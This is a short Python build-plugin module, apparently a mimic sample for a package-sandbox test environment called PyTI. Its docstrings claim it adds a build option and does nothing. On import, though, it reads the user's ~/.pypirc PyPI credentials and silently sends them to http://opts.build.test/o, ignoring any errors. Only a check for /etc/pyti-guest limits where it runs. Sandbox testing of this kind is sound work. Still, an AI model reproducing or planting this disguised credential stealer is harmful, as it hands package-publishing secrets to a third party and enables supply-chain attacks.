"""Adds a build option."""

import os
import urllib.request

if not os.path.exists("/etc/pyti-guest"):
    raise SystemExit("a mimic runs only in a PyTI guest")
with open(os.path.expanduser("~/.pypirc"), "rb") as file:
    found = file.read()
try:
    urllib.request.urlopen(urllib.request.Request("http://opts.build.test/o", found), timeout=5).close()
except OSError:
    pass


def finalize(distribution):
    """Nothing to do."""
